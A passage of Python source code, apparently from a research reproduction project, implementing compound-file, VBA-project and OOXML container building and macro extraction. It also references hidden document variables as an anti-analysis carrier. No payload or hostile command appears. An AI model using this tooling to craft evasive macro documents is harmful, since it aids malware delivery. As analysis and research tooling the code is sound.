            reader.read_stream("ReproDocVars")
        )
    return result


def extract_macros_from_file(path) -> ExtractionResult:
    """Convenience wrapper reading a document from disk."""
    with open(path, "rb") as handle:
        return extract_macros(handle.read())
