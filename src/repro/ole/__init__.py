"""Document container substrate: the olevba-equivalent extraction stack.

MS-OVBA compression (:mod:`.compression`), MS-CFB compound files
(:mod:`.cfb`), the vbaProject.bin structure (:mod:`.vba_project`), OOXML zip
packages (:mod:`.ooxml`), hidden document variables (:mod:`.docvars`) and the
top-level extractor (:mod:`.extractor`).
"""

from repro.ole.cfb import CFBError, CompoundFileReader, CompoundFileWriter
from repro.ole.compression import OVBACompressionError, compress, decompress
from repro.ole.docvars import decode_docvars, encode_docvars
from repro.ole.extractor import (
    ExtractionError,
    ExtractionResult,
    extract_macros,
    extract_macros_from_file,
    sniff_format,
)
from repro.ole.ooxml import build_docm, build_xlsm, read_vba_part
from repro.ole.vba_project import (
    VBAModule,
    VBAProjectError,
    build_vba_storage_streams,
    parse_dir_stream,
)

__all__ = [
    "CFBError",
    "CompoundFileReader",
    "CompoundFileWriter",
    "ExtractionError",
    "ExtractionResult",
    "OVBACompressionError",
    "VBAModule",
    "VBAProjectError",
    "build_docm",
    "build_vba_storage_streams",
    "build_xlsm",
    "compress",
    "decode_docvars",
    "decompress",
    "encode_docvars",
    "extract_macros",
    "extract_macros_from_file",
    "parse_dir_stream",
    "read_vba_part",
    "sniff_format",
]
