"""MS-CFB compound file binary format: reader and writer.

A compound file is the FAT-like container underlying legacy Office documents
(``.doc``, ``.xls``) and ``vbaProject.bin``.  This module implements version 3
(512-byte sectors):

* header with DIFAT (double-indirect FAT) — header array plus chained DIFAT
  sectors on read; the writer keeps FATs small enough for the header array;
* FAT sector chains for regular streams;
* miniFAT + mini stream (64-byte mini sectors) for streams under 4096 bytes;
* a directory of 128-byte entries forming a tree: storages (directories)
  whose children hang off a binary tree of sibling links.

The public API is path-based: ``writer.add_stream("Macros/VBA/dir", data)``,
``reader.read_stream("macros/vba/dir")`` (CFB name comparison is
case-insensitive, and so is path lookup here).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

SECTOR_SIZE = 512
MINI_SECTOR_SIZE = 64
MINI_STREAM_CUTOFF = 4096

FREESECT = 0xFFFFFFFF
ENDOFCHAIN = 0xFFFFFFFE
FATSECT = 0xFFFFFFFD
DIFSECT = 0xFFFFFFFC
NOSTREAM = 0xFFFFFFFF

MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

TYPE_UNKNOWN = 0
TYPE_STORAGE = 1
TYPE_STREAM = 2
TYPE_ROOT = 5

_ENTRIES_PER_SECTOR = SECTOR_SIZE // 128
_FAT_ENTRIES_PER_SECTOR = SECTOR_SIZE // 4


class CFBError(ValueError):
    """Raised on malformed compound files or invalid writer usage."""


def _name_sort_key(name: str) -> tuple[int, str]:
    """CFB sibling ordering: shorter names first, then case-insensitive."""
    return (len(name), name.upper())


# ----------------------------------------------------------------------
# Writer


@dataclass(eq=False)  # identity hashing: nodes are used as dict keys
class _Node:
    name: str
    object_type: int
    data: bytes = b""
    children: dict[str, "_Node"] = field(default_factory=dict)
    # Filled during serialization:
    entry_id: int = -1
    start_sector: int = ENDOFCHAIN
    left: int = NOSTREAM
    right: int = NOSTREAM
    child: int = NOSTREAM

    def child_key(self, name: str) -> str:
        return name.upper()


class CompoundFileWriter:
    """Build a compound file from paths and byte strings."""

    def __init__(self, root_name: str = "Root Entry") -> None:
        self._root = _Node(root_name, TYPE_ROOT)
        self._root_clsid = b"\x00" * 16

    # ------------------------------------------------------------------

    def add_storage(self, path: str) -> None:
        """Create a storage (directory); intermediate storages are implied."""
        self._walk_create(self._split(path))

    def add_stream(self, path: str, data: bytes) -> None:
        """Create a stream at ``path``, creating parent storages as needed."""
        parts = self._split(path)
        parent = self._walk_create(parts[:-1])
        name = parts[-1]
        key = parent.child_key(name)
        if key in parent.children:
            raise CFBError(f"entry already exists: {path!r}")
        self._check_name(name)
        parent.children[key] = _Node(name, TYPE_STREAM, data=bytes(data))

    @staticmethod
    def _split(path: str) -> list[str]:
        parts = [part for part in path.split("/") if part]
        if not parts:
            raise CFBError("empty path")
        return parts

    @staticmethod
    def _check_name(name: str) -> None:
        if not name or len(name) > 31:
            raise CFBError(f"invalid entry name: {name!r}")
        if any(ch in name for ch in "/\\:!"):
            raise CFBError(f"illegal character in entry name: {name!r}")

    def _walk_create(self, parts: list[str]) -> _Node:
        node = self._root
        for part in parts:
            self._check_name(part)
            key = node.child_key(part)
            existing = node.children.get(key)
            if existing is None:
                existing = _Node(part, TYPE_STORAGE)
                node.children[key] = existing
            elif existing.object_type == TYPE_STREAM:
                raise CFBError(f"{part!r} is a stream, not a storage")
            node = existing
        return node

    # ------------------------------------------------------------------

    def tobytes(self) -> bytes:
        """Serialize the tree to compound-file bytes."""
        entries = self._flatten_entries()
        mini_data, mini_fat, mini_chain_starts = self._pack_mini_streams(entries)

        # Sector layout (after the header): directory, mini stream data,
        # miniFAT, regular stream data, then the FAT itself at the end.
        sectors: list[bytes] = []
        fat: list[int] = []

        def add_chain(data: bytes) -> int:
            if not data:
                return ENDOFCHAIN
            first = len(sectors)
            count = (len(data) + SECTOR_SIZE - 1) // SECTOR_SIZE
            for i in range(count):
                sectors.append(
                    data[i * SECTOR_SIZE : (i + 1) * SECTOR_SIZE].ljust(
                        SECTOR_SIZE, b"\x00"
                    )
                )
                fat.append(first + i + 1 if i < count - 1 else ENDOFCHAIN)
            return first

        # Regular streams (>= cutoff; root's mini stream handled below).
        for node in entries:
            if node.object_type == TYPE_STREAM and len(node.data) >= MINI_STREAM_CUTOFF:
                node.start_sector = add_chain(node.data)

        root = entries[0]
        root.start_sector = add_chain(mini_data)
        root.data = mini_data  # root stream size = mini stream size

        mini_fat_bytes = b"".join(entry.to_bytes(4, "little") for entry in mini_fat)
        first_minifat_sector = add_chain(mini_fat_bytes)
        n_minifat_sectors = (
            (len(mini_fat_bytes) + SECTOR_SIZE - 1) // SECTOR_SIZE
            if mini_fat_bytes
            else 0
        )

        # Mini-stream chain starts for small streams.
        for node, start in mini_chain_starts.items():
            node.start_sector = start

        directory_bytes = self._serialize_directory(entries)
        first_directory_sector = add_chain(directory_bytes)

        # FAT sectors: iterate because the FAT must also map itself.
        n_fat_sectors = 1
        while True:
            total = len(fat) + n_fat_sectors
            needed = (total + _FAT_ENTRIES_PER_SECTOR - 1) // _FAT_ENTRIES_PER_SECTOR
            if needed <= n_fat_sectors:
                break
            n_fat_sectors = needed
        if n_fat_sectors > 109:
            raise CFBError("file too large: writer supports header-DIFAT only")

        first_fat_sector = len(sectors)
        full_fat = fat + [FATSECT] * n_fat_sectors
        padding = (
            n_fat_sectors * _FAT_ENTRIES_PER_SECTOR - len(full_fat)
        )
        full_fat.extend([FREESECT] * padding)
        fat_bytes = b"".join(entry.to_bytes(4, "little") for entry in full_fat)
        for i in range(n_fat_sectors):
            sectors.append(fat_bytes[i * SECTOR_SIZE : (i + 1) * SECTOR_SIZE])

        header = self._build_header(
            n_fat_sectors=n_fat_sectors,
            first_directory_sector=first_directory_sector,
            first_minifat_sector=first_minifat_sector,
            n_minifat_sectors=n_minifat_sectors,
            fat_sector_ids=[first_fat_sector + i for i in range(n_fat_sectors)],
            n_directory_sectors=len(directory_bytes) // SECTOR_SIZE,
        )
        return header + b"".join(sectors)

    # ------------------------------------------------------------------

    def _flatten_entries(self) -> list[_Node]:
        """Assign entry ids and sibling-tree links; root is entry 0."""
        entries: list[_Node] = [self._root]
        self._root.entry_id = 0

        def allocate(node: _Node) -> None:
            children = sorted(
                node.children.values(), key=lambda n: _name_sort_key(n.name)
            )
            for child in children:
                child.entry_id = len(entries)
                entries.append(child)
            node.child = self._build_sibling_tree(children)
            for child in children:
                allocate(child)

        allocate(self._root)
        return entries

    def _build_sibling_tree(self, siblings: list[_Node]) -> int:
        """Balanced BST over name-sorted siblings; returns the subtree root id."""
        if not siblings:
            return NOSTREAM

        def build(low: int, high: int) -> int:
            if low > high:
                return NOSTREAM
            mid = (low + high) // 2
            node = siblings[mid]
            node.left = build(low, mid - 1)
            node.right = build(mid + 1, high)
            return node.entry_id

        return build(0, len(siblings) - 1)

    def _pack_mini_streams(self, entries: list[_Node]):
        """Pack small streams into the mini stream; return its FAT chains."""
        mini_data = bytearray()
        mini_fat: list[int] = []
        chain_starts: dict[_Node, int] = {}
        for node in entries:
            if node.object_type != TYPE_STREAM:
                continue
            if len(node.data) >= MINI_STREAM_CUTOFF or not node.data:
                if not node.data:
                    chain_starts[node] = ENDOFCHAIN
                continue
            first = len(mini_fat)
            count = (len(node.data) + MINI_SECTOR_SIZE - 1) // MINI_SECTOR_SIZE
            for i in range(count):
                start = i * MINI_SECTOR_SIZE
                mini_data.extend(
                    node.data[start : start + MINI_SECTOR_SIZE].ljust(
                        MINI_SECTOR_SIZE, b"\x00"
                    )
                )
                mini_fat.append(first + i + 1 if i < count - 1 else ENDOFCHAIN)
            chain_starts[node] = first
        return bytes(mini_data), mini_fat, chain_starts

    def _serialize_directory(self, entries: list[_Node]) -> bytes:
        blob = bytearray()
        for node in entries:
            blob.extend(self._serialize_entry(node))
        # Pad to a whole number of sectors with empty (unused) entries.
        while len(blob) % SECTOR_SIZE:
            blob.extend(self._empty_entry())
        return bytes(blob)

    def _serialize_entry(self, node: _Node) -> bytes:
        name_utf16 = node.name.encode("utf-16-le")
        if len(name_utf16) > 62:
            raise CFBError(f"name too long: {node.name!r}")
        name_field = name_utf16 + b"\x00\x00"
        name_length = len(name_field)
        name_field = name_field.ljust(64, b"\x00")
        if node.object_type in (TYPE_STREAM, TYPE_ROOT):
            stream_size = len(node.data)
        else:
            stream_size = 0
        start = node.start_sector
        if node.object_type == TYPE_STORAGE:
            start = 0
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            name_field,
            name_length,
            node.object_type,
            1,  # black
            node.left,
            node.right,
            node.child,
            b"\x00" * 16,
            0,  # state bits
            0,  # creation time
            0,  # modified time
            start if start != ENDOFCHAIN else 0xFFFFFFFE,
            stream_size,
        )

    @staticmethod
    def _empty_entry() -> bytes:
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            b"\x00" * 64, 0, TYPE_UNKNOWN, 0,
            NOSTREAM, NOSTREAM, NOSTREAM,
            b"\x00" * 16, 0, 0, 0, 0, 0,
        )

    def _build_header(
        self,
        n_fat_sectors: int,
        first_directory_sector: int,
        first_minifat_sector: int,
        n_minifat_sectors: int,
        fat_sector_ids: list[int],
        n_directory_sectors: int,
    ) -> bytes:
        difat = fat_sector_ids + [FREESECT] * (109 - len(fat_sector_ids))
        return struct.pack(
            "<8s16sHHHHH6xIIIIIIIII109I",
            MAGIC,
            b"\x00" * 16,
            0x003E,  # minor version
            0x0003,  # major version 3
            0xFFFE,  # little-endian byte order mark
            9,  # sector shift: 512
            6,  # mini sector shift: 64
            0,  # number of directory sectors (v3: 0)
            n_fat_sectors,
            first_directory_sector,
            0,  # transaction signature
            MINI_STREAM_CUTOFF,
            first_minifat_sector if n_minifat_sectors else ENDOFCHAIN,
            n_minifat_sectors,
            ENDOFCHAIN,  # first DIFAT sector (none beyond the header)
            0,  # number of DIFAT sectors
            *difat,
        )


# ----------------------------------------------------------------------
# Reader


@dataclass
class DirectoryEntry:
    """One parsed 128-byte directory entry."""

    entry_id: int
    name: str
    object_type: int
    left: int
    right: int
    child: int
    start_sector: int
    stream_size: int

    @property
    def is_stream(self) -> bool:
        return self.object_type == TYPE_STREAM

    @property
    def is_storage(self) -> bool:
        return self.object_type in (TYPE_STORAGE, TYPE_ROOT)


class CompoundFileReader:
    """Parse a compound file from bytes."""

    def __init__(self, data: bytes) -> None:
        if len(data) < SECTOR_SIZE:
            raise CFBError("file shorter than one header sector")
        if data[:8] != MAGIC:
            raise CFBError("bad compound file signature")
        self._data = data
        self._parse_header()
        self._load_fat()
        self._load_directory()
        self._load_minifat()

    # ------------------------------------------------------------------

    def _parse_header(self) -> None:
        fields = struct.unpack("<8s16sHHHHH6xIIIIIIIII109I", self._data[:512])
        (
            _magic, _clsid, _minor, major, byte_order, sector_shift,
            mini_shift, _n_dir, self._n_fat,
            self._first_directory, _tx, self._mini_cutoff,
            self._first_minifat, self._n_minifat,
            self._first_difat, self._n_difat, *difat
        ) = fields
        if byte_order != 0xFFFE:
            raise CFBError(f"unsupported byte order mark {byte_order:#06x}")
        if major not in (3, 4):
            raise CFBError(f"unsupported major version {major}")
        if major == 3 and sector_shift != 9:
            raise CFBError("v3 file must use 512-byte sectors")
        if major == 4 and sector_shift != 12:
            raise CFBError("v4 file must use 4096-byte sectors")
        self._sector_size = 1 << sector_shift
        self._mini_sector_size = 1 << mini_shift
        self._header_difat = difat

    def _sector(self, sector_id: int) -> bytes:
        offset = SECTOR_SIZE + sector_id * self._sector_size
        if self._sector_size != SECTOR_SIZE:
            offset = self._sector_size + sector_id * self._sector_size
        chunk = self._data[offset : offset + self._sector_size]
        if len(chunk) < self._sector_size:
            chunk = chunk.ljust(self._sector_size, b"\x00")
        return chunk

    def _load_fat(self) -> None:
        fat_sector_ids = [s for s in self._header_difat if s != FREESECT]
        # Follow chained DIFAT sectors if present.
        difat_sector = self._first_difat
        guard = 0
        while difat_sector not in (ENDOFCHAIN, FREESECT) and guard < 1 << 16:
            sector = self._sector(difat_sector)
            ids = struct.unpack(f"<{self._sector_size // 4}I", sector)
            fat_sector_ids.extend(s for s in ids[:-1] if s != FREESECT)
            difat_sector = ids[-1]
            guard += 1
        fat: list[int] = []
        for sector_id in fat_sector_ids[: self._n_fat]:
            sector = self._sector(sector_id)
            fat.extend(struct.unpack(f"<{self._sector_size // 4}I", sector))
        self._fat = fat

    def _chain(self, start: int, fat: list[int]) -> list[int]:
        chain = []
        current = start
        seen = set()
        while current not in (ENDOFCHAIN, FREESECT, NOSTREAM):
            if current in seen or current >= len(fat):
                raise CFBError(f"corrupt sector chain at {current}")
            seen.add(current)
            chain.append(current)
            current = fat[current]
        return chain

    def _read_chain(self, start: int, size: int) -> bytes:
        data = b"".join(self._sector(s) for s in self._chain(start, self._fat))
        return data[:size]

    def _load_directory(self) -> None:
        raw = b"".join(
            self._sector(s) for s in self._chain(self._first_directory, self._fat)
        )
        self.entries: list[DirectoryEntry] = []
        for entry_id in range(len(raw) // 128):
            blob = raw[entry_id * 128 : (entry_id + 1) * 128]
            fields = struct.unpack("<64sHBBIII16sIQQIQ", blob)
            (
                name_raw, name_length, object_type, _color,
                left, right, child, _clsid, _state,
                _ctime, _mtime, start_sector, stream_size,
            ) = fields
            if object_type == TYPE_UNKNOWN:
                continue
            name = name_raw[: max(0, name_length - 2)].decode(
                "utf-16-le", errors="replace"
            )
            self.entries.append(
                DirectoryEntry(
                    entry_id=entry_id,
                    name=name,
                    object_type=object_type,
                    left=left,
                    right=right,
                    child=child,
                    start_sector=start_sector,
                    stream_size=stream_size,
                )
            )
        self._by_id = {entry.entry_id: entry for entry in self.entries}
        if 0 not in self._by_id or self._by_id[0].object_type != TYPE_ROOT:
            raise CFBError("missing root directory entry")
        self.root = self._by_id[0]

    def _load_minifat(self) -> None:
        if self._n_minifat == 0 or self._first_minifat in (ENDOFCHAIN, FREESECT):
            self._minifat: list[int] = []
            self._mini_stream = b""
            return
        raw = b"".join(
            self._sector(s) for s in self._chain(self._first_minifat, self._fat)
        )
        self._minifat = list(struct.unpack(f"<{len(raw) // 4}I", raw))
        self._mini_stream = self._read_chain(
            self.root.start_sector, self.root.stream_size
        )

    # ------------------------------------------------------------------
    # Public navigation API

    def _children(self, entry: DirectoryEntry) -> list[DirectoryEntry]:
        # A corrupted left/right/child pointer can form a cycle in the
        # red-black tree; track visited ids so traversal stays finite.
        result: list[DirectoryEntry] = []
        seen: set[int] = set()
        stack = [entry.child]
        while stack:
            current = stack.pop()
            if current == NOSTREAM or current in seen:
                continue
            seen.add(current)
            if current not in self._by_id:
                continue
            node = self._by_id[current]
            result.append(node)
            stack.append(node.left)
            stack.append(node.right)
        return result

    def _resolve(self, path: str) -> DirectoryEntry | None:
        node = self.root
        for part in (p for p in path.split("/") if p):
            match = None
            for child in self._children(node):
                if child.name.upper() == part.upper():
                    match = child
                    break
            if match is None:
                return None
            node = match
        return node

    def exists(self, path: str) -> bool:
        return self._resolve(path) is not None

    def read_stream(self, path: str) -> bytes:
        """Read a stream's bytes by path (case-insensitive)."""
        entry = self._resolve(path)
        if entry is None:
            raise CFBError(f"no such entry: {path!r}")
        if not entry.is_stream:
            raise CFBError(f"not a stream: {path!r}")
        if entry.stream_size == 0:
            return b""
        if entry.stream_size < self._mini_cutoff:
            chain = self._chain(entry.start_sector, self._minifat)
            data = b"".join(
                self._mini_stream[
                    s * self._mini_sector_size : (s + 1) * self._mini_sector_size
                ]
                for s in chain
            )
            return data[: entry.stream_size]
        return self._read_chain(entry.start_sector, entry.stream_size)

    def list_paths(self) -> list[str]:
        """All entry paths, streams and storages, depth-first."""
        result: list[str] = []
        visited: set[int] = set()

        def walk(entry: DirectoryEntry, prefix: str) -> None:
            # A corrupted child pointer can make a storage its own
            # descendant; skip storages already on the walk.
            if entry.entry_id in visited:
                return
            visited.add(entry.entry_id)
            for child in sorted(self._children(entry), key=lambda e: e.entry_id):
                path = f"{prefix}{child.name}"
                result.append(path + ("/" if child.is_storage else ""))
                if child.is_storage:
                    walk(child, path + "/")

        walk(self.root, "")
        return result

    def list_streams(self) -> list[str]:
        return [p for p in self.list_paths() if not p.endswith("/")]
