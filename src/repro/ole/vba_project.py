"""vbaProject.bin structure: the VBA storage inside Office documents.

Per [MS-OVBA], a VBA project storage contains:

* ``VBA/`` storage with
  * ``_VBA_PROJECT`` — performance cache (version-dependent, ignored by
    robust extractors; we store the documented 7-byte header),
  * ``dir`` — a *compressed* record stream describing the project and its
    modules (names, stream names, text offsets),
  * one stream per module: performance cache (``MODULEOFFSET`` bytes we
    leave empty) followed by the *compressed* source text;
* a ``PROJECT`` stream (plain text properties) at the project root.

The parser is record-tolerant like olevba: unknown record ids are skipped by
their declared size, so real-world ``dir`` streams with extra records would
still parse.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from repro.ole.compression import compress, decompress

# dir-stream record ids (subset sufficient for extraction).
PROJECTSYSKIND = 0x0001
PROJECTLCID = 0x0002
PROJECTCODEPAGE = 0x0003
PROJECTNAME = 0x0004
PROJECTDOCSTRING = 0x0005
PROJECTHELPFILEPATH = 0x0006
PROJECTHELPCONTEXT = 0x0007
PROJECTLIBFLAGS = 0x0008
PROJECTVERSION = 0x0009
PROJECTCONSTANTS = 0x000C
PROJECTMODULES = 0x000F
DIR_TERMINATOR = 0x0010
PROJECTCOOKIE = 0x0013
PROJECTLCIDINVOKE = 0x0014
MODULENAME = 0x0019
MODULESTREAMNAME = 0x001A
MODULEDOCSTRING = 0x001C
MODULEHELPCONTEXT = 0x001E
MODULETYPE_PROCEDURAL = 0x0021
MODULETYPE_DOCCLASS = 0x0022
MODULEREADONLY = 0x0025
MODULEPRIVATE = 0x0028
MODULE_TERMINATOR = 0x002B
MODULECOOKIE = 0x002C
MODULEOFFSET = 0x0031
MODULENAMEUNICODE = 0x0047

CODEPAGE = 1252
_ENCODING = "cp1252"


class VBAProjectError(ValueError):
    """Raised on malformed VBA project structures."""


@dataclass(frozen=True, slots=True)
class VBAModule:
    """One VBA code module: its name and source text."""

    name: str
    source: str
    module_type: str = "procedural"  # or "document"


# ----------------------------------------------------------------------
# Building


def build_vba_storage_streams(
    modules: list[VBAModule], project_name: str = "VBAProject"
) -> dict[str, bytes]:
    """Return the stream map of a VBA project storage.

    Keys are storage-relative paths (``VBA/dir``, ``VBA/Module1``,
    ``PROJECT``); callers mount them wherever their container keeps VBA
    (``Macros/`` in .doc, ``_VBA_PROJECT_CUR/`` in .xls, the root of
    ``vbaProject.bin`` in OOXML).
    """
    if not modules:
        raise VBAProjectError("a VBA project needs at least one module")
    names = [module.name for module in modules]
    if len(set(name.lower() for name in names)) != len(names):
        raise VBAProjectError("duplicate module names")

    streams: dict[str, bytes] = {}
    streams["VBA/dir"] = compress(_build_dir_stream(modules, project_name))
    streams["VBA/_VBA_PROJECT"] = _build_vba_project_stream()
    for module in modules:
        source_bytes = module.source.encode(_ENCODING, errors="replace")
        # MODULEOFFSET is 0: the compressed source starts immediately.
        streams[f"VBA/{module.name}"] = compress(source_bytes)
    streams["PROJECT"] = _build_project_stream(modules, project_name)
    return streams


def _record(record_id: int, payload: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(payload)) + payload


def _string_record(record_id: int, text: str) -> bytes:
    return _record(record_id, text.encode(_ENCODING, errors="replace"))


def _build_dir_stream(modules: list[VBAModule], project_name: str) -> bytes:
    out = bytearray()
    out += _record(PROJECTSYSKIND, struct.pack("<I", 1))  # Win32
    out += _record(PROJECTLCID, struct.pack("<I", 0x409))
    out += _record(PROJECTLCIDINVOKE, struct.pack("<I", 0x409))
    out += _record(PROJECTCODEPAGE, struct.pack("<H", CODEPAGE))
    out += _string_record(PROJECTNAME, project_name)
    out += _string_record(PROJECTDOCSTRING, "")
    out += _string_record(PROJECTHELPFILEPATH, "")
    out += _record(PROJECTHELPCONTEXT, struct.pack("<I", 0))
    out += _record(PROJECTLIBFLAGS, struct.pack("<I", 0))
    out += _record(PROJECTVERSION, struct.pack("<IH", 0x0397, 0x0000))
    out += _record(PROJECTMODULES, struct.pack("<H", len(modules)))
    out += _record(PROJECTCOOKIE, struct.pack("<H", 0xFFFF))
    for module in modules:
        out += _string_record(MODULENAME, module.name)
        out += _record(
            MODULENAMEUNICODE, module.name.encode("utf-16-le")
        )
        stream_name = module.name.encode(_ENCODING, errors="replace")
        unicode_name = module.name.encode("utf-16-le")
        out += (
            struct.pack("<HI", MODULESTREAMNAME, len(stream_name))
            + stream_name
            + struct.pack("<HI", 0x0032, len(unicode_name))
            + unicode_name
        )
        out += _string_record(MODULEDOCSTRING, "")
        out += _record(MODULEOFFSET, struct.pack("<I", 0))
        out += _record(MODULEHELPCONTEXT, struct.pack("<I", 0))
        out += _record(MODULECOOKIE, struct.pack("<H", 0xFFFF))
        type_id = (
            MODULETYPE_DOCCLASS
            if module.module_type == "document"
            else MODULETYPE_PROCEDURAL
        )
        out += _record(type_id, b"")
        out += _record(MODULE_TERMINATOR, b"")
    out += _record(DIR_TERMINATOR, b"")
    return bytes(out)


def _build_vba_project_stream() -> bytes:
    # Reserved header; the performance cache that follows is
    # implementation-specific and ignored by extractors.
    return struct.pack("<HHBH", 0x61CC, 0xFFFF, 0x00, 0x0000)


def _build_project_stream(modules: list[VBAModule], project_name: str) -> bytes:
    lines = [f'ID="{{00000000-0000-0000-0000-000000000000}}"']
    for module in modules:
        if module.module_type == "document":
            lines.append(f"Document={module.name}/&H00000000")
        else:
            lines.append(f"Module={module.name}")
    lines += [
        f'Name="{project_name}"',
        'HelpContextID="0"',
        'VersionCompatible32="393222000"',
        "CMG=\"\"",
        "DPB=\"\"",
        "GC=\"\"",
    ]
    return ("\r\n".join(lines) + "\r\n").encode(_ENCODING)


# ----------------------------------------------------------------------
# Parsing


@dataclass(frozen=True, slots=True)
class _ModuleRef:
    name: str
    stream_name: str
    offset: int
    module_type: str


def parse_dir_stream(compressed: bytes) -> tuple[str, list[_ModuleRef]]:
    """Parse a compressed ``dir`` stream → (project name, module refs).

    Unknown records are skipped by their declared size (olevba-style
    tolerance).
    """
    data = decompress(compressed)
    position = 0
    project_name = "VBAProject"
    modules: list[_ModuleRef] = []
    current: dict | None = None

    def flush() -> None:
        nonlocal current
        if current is not None:
            modules.append(
                _ModuleRef(
                    name=current.get("name", ""),
                    stream_name=current.get("stream_name", current.get("name", "")),
                    offset=current.get("offset", 0),
                    module_type=current.get("type", "procedural"),
                )
            )
            current = None

    while position + 6 <= len(data):
        record_id, size = struct.unpack_from("<HI", data, position)
        position += 6
        if record_id == PROJECTVERSION:
            # Quirk: the size field is fixed at 4 but 6 data bytes follow.
            size = 6
        payload = data[position : position + size]
        position += size

        if record_id == PROJECTNAME:
            project_name = payload.decode(_ENCODING, errors="replace")
        elif record_id == MODULENAME:
            flush()
            current = {"name": payload.decode(_ENCODING, errors="replace")}
        elif record_id == MODULESTREAMNAME and current is not None:
            current["stream_name"] = payload.decode(_ENCODING, errors="replace")
        elif record_id == MODULEOFFSET and current is not None and size >= 4:
            current["offset"] = struct.unpack("<I", payload[:4])[0]
        elif record_id == MODULETYPE_PROCEDURAL and current is not None:
            current["type"] = "procedural"
        elif record_id == MODULETYPE_DOCCLASS and current is not None:
            current["type"] = "document"
        elif record_id == MODULE_TERMINATOR:
            flush()
        elif record_id == DIR_TERMINATOR:
            flush()
            break
    flush()
    return project_name, modules


def extract_modules_from_streams(
    read_stream, list_streams: list[str], vba_prefix: str
) -> list[VBAModule]:
    """Extract all modules given stream access to a VBA storage.

    Args:
        read_stream: callable path → bytes.
        list_streams: all stream paths in the container.
        vba_prefix: path of the VBA storage (e.g. ``"Macros/VBA"``).
    """
    dir_path = f"{vba_prefix}/dir"
    if dir_path.lower() not in (s.lower() for s in list_streams):
        raise VBAProjectError(f"no dir stream under {vba_prefix!r}")
    _, refs = parse_dir_stream(read_stream(dir_path))
    modules: list[VBAModule] = []
    for ref in refs:
        stream_path = f"{vba_prefix}/{ref.stream_name}"
        try:
            blob = read_stream(stream_path)
        except Exception as error:
            raise VBAProjectError(
                f"module stream missing: {stream_path!r}"
            ) from error
        source_bytes = decompress(blob[ref.offset :])
        modules.append(
            VBAModule(
                name=ref.name,
                source=source_bytes.decode(_ENCODING, errors="replace"),
                module_type=ref.module_type,
            )
        )
    return modules
