"""OOXML (.docm / .xlsm) containers: zip packages carrying vbaProject.bin.

Office Open XML macro-enabled documents are zip archives; the VBA project is
the binary part ``word/vbaProject.bin`` (Word) or ``xl/vbaProject.bin``
(Excel), itself a compound file.  This module builds minimal-but-valid
packages ([Content_Types].xml, relationships, a document part, the VBA part)
and locates the VBA part when reading.

Hidden document variables (the §VI.B anti-analysis carrier) are stored in a
dedicated part ``docProps/reproDocVars.xml``; see
:mod:`repro.ole.docvars` for the encoding.
"""

from __future__ import annotations

import io
import zipfile
import zlib

#: Exceptions the zip layer raises while reading member data from hostile
#: archives: CRC/structure errors, deflate garbage, truncated streams,
#: unsupported compression methods, encrypted members.
_ZIP_READ_ERRORS = (
    zipfile.BadZipFile,
    zipfile.LargeZipFile,
    zlib.error,
    EOFError,
    NotImplementedError,
    RuntimeError,
)

#: Fixed archive timestamp so identical content yields identical bytes.
_FIXED_ZIP_DATE = (2016, 1, 1, 0, 0, 0)


def _writestr(archive: zipfile.ZipFile, name: str, data, compress_type=None) -> None:
    info = zipfile.ZipInfo(name, date_time=_FIXED_ZIP_DATE)
    info.compress_type = (
        compress_type if compress_type is not None else zipfile.ZIP_DEFLATED
    )
    archive.writestr(info, data)

VBA_CONTENT_TYPE = "application/vnd.ms-office.vbaProject"
DOCVARS_PART = "docProps/reproDocVars.xml"

_CONTENT_TYPES_TEMPLATE = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
  <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
  <Default Extension="xml" ContentType="application/xml"/>
  <Default Extension="bin" ContentType="{vba_content_type}"/>
  <Override PartName="/{main_part}" ContentType="{main_content_type}"/>
</Types>
"""

_ROOT_RELS_TEMPLATE = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
  <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{main_part}"/>
</Relationships>
"""

_PART_RELS_TEMPLATE = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
  <Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
</Relationships>
"""

_WORD_DOCUMENT_XML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
  <w:body><w:p><w:r><w:t>{body_text}</w:t></w:r></w:p></w:body>
</w:document>
"""

_XL_WORKBOOK_XML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
  <sheets><sheet name="{sheet_name}" sheetId="1" r:id="rId2"
    xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets>
</workbook>
"""


class OOXMLError(ValueError):
    """Raised on malformed OOXML packages."""


def _open_archive(data: bytes) -> zipfile.ZipFile:
    """Open package bytes, normalizing zip-layer failures to OOXMLError.

    ``is_zip`` only sniffs the magic — truncated or garbage archives (e.g. a
    bare ``PK\\x07\\x08`` data-descriptor prefix) still raise ``BadZipFile``
    inside ``zipfile``, which must not leak to callers handling
    attacker-controlled bytes.
    """
    try:
        return zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, zipfile.LargeZipFile) as error:
        raise OOXMLError(f"malformed zip package: {error}") from error


def _build_package(
    main_dir: str,
    main_part_name: str,
    main_content_type: str,
    main_xml: str,
    vba_project: bytes,
    extra_parts: dict[str, bytes] | None,
    padding: int,
) -> bytes:
    main_part = f"{main_dir}/{main_part_name}"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        _writestr(
            archive,
            "[Content_Types].xml",
            _CONTENT_TYPES_TEMPLATE.format(
                vba_content_type=VBA_CONTENT_TYPE,
                main_part=main_part,
                main_content_type=main_content_type,
            ),
        )
        _writestr(
